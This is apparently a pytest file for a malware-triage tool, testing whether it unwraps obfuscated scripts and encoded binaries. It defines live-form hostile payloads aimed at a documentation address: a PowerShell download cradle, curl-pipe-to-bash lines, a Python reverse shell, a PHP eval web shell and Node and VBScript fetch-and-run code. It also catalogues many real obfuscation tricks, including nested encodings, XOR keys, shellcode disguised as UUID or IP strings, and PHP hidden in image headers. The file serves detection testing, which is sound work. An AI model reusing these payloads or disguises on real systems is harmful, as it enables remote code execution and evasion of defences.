"""Classes of disguise as people and kits write them: each must give the payload back.

The payload names an address that nobody uses (RFC 5737); it must be readable in some layer, or,
for programs, a layer must be of their kind.
"""

# A disguise is easier to read on one line.
# ruff: noqa: E501

from __future__ import annotations

import base64
import binascii
import codecs
import ipaddress
import json
import marshal
import random
import struct
import textwrap
import uuid
import zlib
from collections.abc import Callable
from functools import partial
from itertools import accumulate
from operator import xor

import pytest

from tests.content.payloads import PAYLOADS
from tests.content.real_cases import shellcodes
from triage.content.examine import examine, layers_of

_MARK = b"198.51.100.7"
_PS = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')"
_SH = b"#!/bin/bash\ncurl -fsSL http://198.51.100.7/x -o /dev/shm/.x\nchmod +x /dev/shm/.x && /dev/shm/.x\n"
_SH_LINE = b"curl -s http://198.51.100.7/i.sh | bash -s -- --quiet"
_PY = b"import socket,os\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\nos.system('/bin/sh -i')\n"
_VBS = b'Dim sh\nSet sh = CreateObject("WScript.Shell")\nOn Error Resume Next\nsh.Run "cmd /c curl http://198.51.100.7/a", 0, True\n'
_JS = b"const {execSync}=require('child_process');require('http').get('http://198.51.100.7/p',r=>{r.on('data',c=>{execSync(c);});});"
_PHP = b"if(isset($_REQUEST['k'])){@eval(base64_decode($_REQUEST['k']));} $u='http://198.51.100.7/'; echo file_get_contents($u);"


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _nested_php(levels: int) -> str:
    code = _PHP
    for _ in range(levels):
        made = zlib.compressobj(9, zlib.DEFLATED, -15)
        code = f"eval(gzinflate(base64_decode('{_b64(made.compress(code) + made.flush())}')));".encode()
    return f"<?php {code.decode()} ?>"


def _nested_python(levels: int) -> str:
    code = _PY
    for _ in range(levels):
        turned = base64.b64encode(zlib.compress(code))[::-1].decode()
        code = (
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
            f"exec((_)(b'{turned}'))"
        ).encode()
    return code.decode()


SCRIPTS: dict[str, str] = {
    "codes split by letters": f"IEX (('{'z'.join(map(str, _PS))}'.Split('z') | %{{ [char][int]$_ }}) -join '')",
    "codes split by many signs": f"('{''.join(str(c) + random.Random(c).choice('<X!~') for c in _PS)}'.Split('<X!~')|%{{[char][int]$_}})-join''|iex",
    "octal codes": f"IEX (('{'_'.join(f'{c:o}' for c in _PS)}'.Split('_') | %{{ [char]([convert]::ToInt16($_,8)) }}) -join '')",
    "binary codes": f"IEX (('{','.join(f'{c:b}' for c in _PS)}'.Split(',') | %{{ [char]([convert]::ToInt16($_,2)) }}) -join '')",
    "sums as codes": "iex(" + "+".join(f"[char]({c - 7}+7)" for c in _PS) + ")",
    "letters of variables": "&($env:ComSpec[4,26,25]-join'')((New-Object Net.WebClient).DownloadString(('http://198.5'+'1.100.7/a')))",
    "regular expression from right to left": f"iex([string]::join('',([regex]::matches(\"{_PS[::-1].decode()}\",'.','RightToLeft')|%{{$_.value}})))",
    "doubled quotes reversed": "$s='" + _PS[::-1].decode().replace("'", "''") + "';iex($s[-1..-($s.length)]-join'')",
    "string builder": "$sb=[Text.StringBuilder]::new();" + "".join(f"[void]$sb.Append('{_PS[i:i + 6].decode().replace(chr(39), chr(39) * 2)}');" for i in range(0, len(_PS), 6)) + "iex $sb.ToString()",
    "back-ticks": "i`N`v`o`K`e-eX`pREssi`on (NE`w-oBJ`ect Net.WebC`lient).(\"D`ow`nloadString\").Invoke(\"http://198.51.100.7/x\")",
    "key in the script": f"$k='Sup3rK3y!';$d=[Convert]::FromBase64String('{_b64(bytes(c ^ b'Sup3rK3y!'[i % 9] for i, c in enumerate(_PS)))}');for($i=0;$i -lt $d.Count;$i++){{$d[$i]=$d[$i] -bxor $k[$i%$k.Length]}};iex([Text.Encoding]::UTF8.GetString($d))",
    "cmd variables": 'cmd /c "set a=powe&& set b=rsh&& set c=ell&& call %a%%b%%c% -nop -c iex(iwr http://198.51.100.7/a)"',
    "ANSI-C quotes": "eval $'" + "".join(f"\\{c:03o}" for c in _SH_LINE) + "'",
    "turned around for rev": f"echo '{_SH_LINE[::-1].decode()}' | rev | sh",
    "rot13 by tr": f"echo '{codecs.encode(_b64(_SH), 'rot13')}' | tr 'N-ZA-Mn-za-m' 'A-Za-z' | base64 -d | sh",
    "junk in every word": f"x='{_SH_LINE.decode().replace('1', '1@@')}'; eval \"${{x//@@/}}\"",
    "five layers of PHP": _nested_php(5),
    "four layers of Python": _nested_python(4),
    "Ascii85 with escaped quotes": "import base64;exec(base64.a85decode('" + base64.a85encode(_PY).decode().replace("\\", "\\\\").replace("'", "\\'") + "'))",
    "one number": f"exec(int({int.from_bytes(_PY, 'big')}).to_bytes({len(_PY)},'big'))",
    "short octal escapes": '<?php eval("' + "".join(f"\\{c:o}" for c in _PHP) + '");',
    "XOR by a named letter": "eval([" + ",".join(str(c ^ 42) for c in _JS) + '].map(c=>String.fromCharCode(c^42)).join(""))',
    "uuencoded in a script": "eval unpack u=>q{\n" + "".join(binascii.b2a_uu(_PY[i:i + 45]).decode() for i in range(0, len(_PY), 45)) + "};",
    "sums in Basic": "Execute(" + " & ".join(f"Chr({c + 5}-5)" for c in _VBS) + ")",
    "hexadecimal in Basic": "Execute " + "&".join(f"ChrW(&H{c:X})" for c in _VBS),
    "Replace in Basic": 'Execute Replace("' + _VBS.decode().replace('"', '""').replace("\n", ":").replace("1", "#%#") + '","#%#","1")',
}  # fmt: skip


@pytest.mark.parametrize("name", SCRIPTS)
def test_the_payload_is_readable_in_some_layer(name: str) -> None:
    data = SCRIPTS[name].encode()
    assert _MARK not in data or name in ("cmd variables", "back-ticks")
    assert any(_MARK in layer for _, layer in layers_of(data)), examine(data).layers
    kinds = {layer.kind for layer in examine(data).layers}
    assert kinds & {"powershell", "shell", "python", "php", "javascript", "vbscript", "batch"}


# --- bytes ------------------------------------------------------------------------------


def _dump(data: bytes, form: str) -> bytes:
    """Lines of sixteen bytes as xxd, ``od -tx1``, ``od -x`` and ``hexdump -C`` print them."""
    lines = []
    for at in range(0, len(data), 16):
        row = data[at : at + 16]
        text = "".join(chr(c) if 32 < c < 127 else "." for c in row)
        pairs = row + bytes(len(row) % 2)
        lines.append({
            "xxd": f"{at:08x}: {' '.join(row[i:i + 2].hex() for i in range(0, len(row), 2)):39}  {text}",
            "od": f"{at:07o} {' '.join(f'{c:02x}' for c in row)}",
            "od -b": f"{at:07o} {' '.join(f'{c:03o}' for c in row)}",
            "words": f"{at:07x} {' '.join(f'{w:04x}' for w in struct.unpack(f'<{len(pairs) // 2}H', pairs))}",
            "hexdump -C": f"{at:08x}  {row[:8].hex(' ')}  {row[8:].hex(' ')}  |{text}|",
        }[form])  # fmt: skip
    return "\n".join(lines).encode() + b"\n"


def _quoted(items: list[str]) -> bytes:
    return ("const char *u[] = {" + ", ".join(f'"{one}"' for one in items) + "};").encode()


def _cut(data: bytes, size: int) -> list[bytes]:
    data += b"\x90" * (-len(data) % size)
    return [data[at : at + size] for at in range(0, len(data), size)]


BYTES: dict[str, Callable[[bytes], bytes]] = {
    **{form: partial(_dump, form=form) for form in ("xxd", "od", "od -b", "words", "hexdump -C")},
    "UUID strings": lambda data: _quoted([str(uuid.UUID(bytes_le=one)) for one in _cut(data, 16)]),
    "IPv4 strings": lambda data: _quoted([str(ipaddress.IPv4Address(one)) for one in _cut(data, 4)]),
    "IPv6 strings": lambda data: _quoted([ipaddress.IPv6Address(one).exploded for one in _cut(data, 16)]),
    "MAC strings": lambda data: _quoted(["-".join(f"{c:02X}" for c in one) for one in _cut(data, 6)]),
    "words of 32 bits": lambda data: ", ".join(f"0x{w:08x}" for (w,) in struct.iter_unpack("<I", b"".join(_cut(data, 4)))).encode(),
    "Java bytes": lambda data: ("byte b[] = {" + ", ".join(f"(byte) 0x{c:02x}" for c in data) + "};").encode(),
    "signed bytes": lambda data: ("byte[] b = {" + ", ".join(str(c - 256 if c > 127 else c) for c in data) + "};").encode(),
    "SQL literal": lambda data: f"INSERT INTO t VALUES (1, 0x{data.hex().upper()});".encode(),
    "PostgreSQL literal": lambda data: f"SELECT lo_from_bytea(0, '\\x{data.hex()}');".encode(),
    "false key": lambda data: ("-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(textwrap.wrap(_b64(data), 64)) + "\n-----END RSA PRIVATE KEY-----\n").encode(),
    "JSON numbers": lambda data: json.dumps({"v": 1, "data": list(data)}).encode(),
    "environment": lambda data: b"PATH=/usr/bin\0HOME=/root\0_X=" + _b64(data).encode() + b"\0LANG=C\0",
    "base64 in XOR in base64": lambda data: base64.b64encode(bytes(c ^ 0x13 for c in base64.b64encode(data))),
    "key that counts": lambda data: bytes(c ^ (0x5A + i & 255) for i, c in enumerate(data)),
    "key that grows by three": lambda data: bytes(c ^ (0x11 + 3 * i & 255) for i, c in enumerate(data)),
    "less the place": lambda data: bytes(c - i & 255 for i, c in enumerate(data)),
    "chain": lambda data: bytes(accumulate(data, xor, initial=0x42))[1:],
    "differences": lambda data: bytes(b - a & 255 for a, b in zip(b"\0" + data, data, strict=False)),
    "bits reversed": lambda data: bytes(int(f"{c:08b}"[::-1], 2) for c in data),
    "XOR and ADD": lambda data: bytes((c ^ 0x3C) + 7 & 255 for c in data),
    "pairs swapped": lambda data: bytes(b for i in range(0, len(data) & ~1, 2) for b in (data[i + 1], data[i])),
}  # fmt: skip


@pytest.mark.parametrize("name", BYTES)
@pytest.mark.parametrize("kind", ["elf", "pe"])
def test_a_program_is_found(name: str, kind: str) -> None:
    data = BYTES[name](PAYLOADS[kind](random.Random(f"{name} {kind}")))
    assert kind in {layer.kind for layer in examine(data).layers}, examine(data).layers


_LISTS = [name for name in BYTES if name.endswith(("strings", "bytes", "literal", "32 bits"))]


@pytest.mark.parametrize("name", [*_LISTS, "xxd", "od", "words"])
def test_machine_code_is_found(name: str) -> None:
    code = max(shellcodes().values(), key=len)
    assert "shellcode" in {layer.kind for layer in examine(BYTES[name](code)).layers}


def test_marshalled_code_in_a_literal_is_named() -> None:
    code = marshal.dumps(compile(_PY, "x", "exec"))
    data = f"import marshal\nexec(marshal.loads({code!r}))\n".encode()
    assert "marshal" in {layer.kind for layer in examine(data).layers}


@pytest.mark.parametrize(
    "picture",
    [
        b"GIF89a;\n",
        b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0!\xfe\x40",
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xfe\0\xf0",
    ],
)
def test_a_script_inside_a_picture_is_found(picture: bytes) -> None:
    data = picture + b"<?php " + _PHP + b" ?>\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    assert "php" in {layer.kind for layer in examine(data).layers}


# --- what looks like it and is not ------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "\n".join(f"deny 203.0.{n}.{n * 7 % 256};" for n in range(60)),
        "\n".join(str(uuid.UUID(int=random.Random(n).getrandbits(128))) for n in range(60)),
        "\n".join(":".join(f"{random.Random(n * 9 + i).randrange(256):02x}" for i in range(6)) for n in range(40)),
        "\n".join(f"{n:08d}  {n * 3:5d} {n * 5:5d} some words here" for n in range(60)),
        json.dumps({"series": [random.Random(n).randrange(256) for n in range(500)]}),
        "%PATH%;%SystemRoot%\\system32;%USERPROFILE%\\AppData\\Local;%TEMP%\\x",
    ],
    ids=["addresses", "UUIDs", "MACs", "table", "series", "variables"],
)  # fmt: skip
def test_lists_of_other_things_stay_text(text: str) -> None:
    content = examine(text.encode())
    kinds = {layer.kind for layer in content.layers}
    assert not kinds & {"elf", "pe", "shellcode", "powershell", "shell", "python", "batch"}


@pytest.mark.parametrize("key", ["========", "AA======", "''", '""', "0x", "\\x"])
def test_a_key_of_nothing_is_no_key(key: str) -> None:
    noise = _b64(random.Random(3).randbytes(90))
    text = f"key = '{key}'\npassword: {key}\ndata = '{noise}'\nx ^ {key}\n"
    assert "xor" not in {layer.kind for layer in examine(text.encode()).layers}
